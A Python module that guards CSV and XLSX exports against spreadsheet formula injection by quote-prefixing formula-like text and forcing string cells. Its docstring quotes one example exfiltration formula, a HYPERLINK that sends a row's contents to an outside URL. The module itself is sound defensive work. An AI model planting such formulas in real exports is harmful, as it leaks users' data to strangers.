"""Cells of CSV and XLSX exports: what a citizen typed is shown as typed and never run.

Excel, WPS and LibreOffice run a cell that starts with = + - @, a tab or a carriage return as a
formula (CSV injection: `=HYPERLINK("http://…?d="&D2,"附件")` sends the row to a stranger). Every
export writes its cells through here: text stays text, numbers the platform computed stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell

CSV = "text/csv; charset=utf-8"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_BATCH = 1000  # rows per chunk of a streamed CSV
# Characters that XML 1.0, and so an XLSX file, cannot hold at all.
_NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
_CARRIAGE_RETURN = re.compile("\r\n?")


def runs_as_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_field(value: Any) -> Any:
    """Text that a spreadsheet would run gets a leading ' (OWASP); so does text that starts with
    one, so dropping one leading ' always gives back what was typed. Numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, str) and (runs_as_formula(value) or value.startswith("'")):
        return "'" + value
    return value


def csv_chunks(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[bytes]:
    """UTF-8 with the BOM that Excel needs to read Chinese, a chunk per CSV_BATCH rows, so a
    StreamingResponse never holds the whole file."""
    out = io.StringIO()
    writer = csv.writer(out)
    out.write("\ufeff")
    writer.writerow([csv_field(v) for v in header])
    for n, row in enumerate(rows, 1):
        writer.writerow([csv_field(v) for v in row])
        if n % CSV_BATCH == 0:
            yield out.getvalue().encode("utf-8")
            out.seek(0)
            out.truncate()
    yield out.getvalue().encode("utf-8")


def csv_bytes(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    return b"".join(csv_chunks(header, rows))


def xlsx_text(text: str) -> str:
    """The text an XLSX cell can hold: without control characters XML forbids, and with a line
    break for a carriage return (XML reads a bare CR as one, so say it outright)."""
    return _CARRIAGE_RETURN.sub("\n", _NOT_XML.sub("", text))


def text_cell(sheet: Any, text: str) -> Cell:
    """A string cell whatever the text: openpyxl would make "=…" a formula and "#N/A" an error.
    Text that looks like a formula also gets Excel's quote prefix, so editing it keeps it text."""
    cell = WriteOnlyCell(sheet, xlsx_text(text))
    cell.data_type = "s"
    if runs_as_formula(text):
        cell.quotePrefix = True
    return cell


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Values for `sheet.append` (normal or write-only sheet): every str as a text cell."""
    return [text_cell(sheet, v) if isinstance(v, str) else v for v in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    sheet.append(xlsx_row(sheet, values))


def xlsx_bytes(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
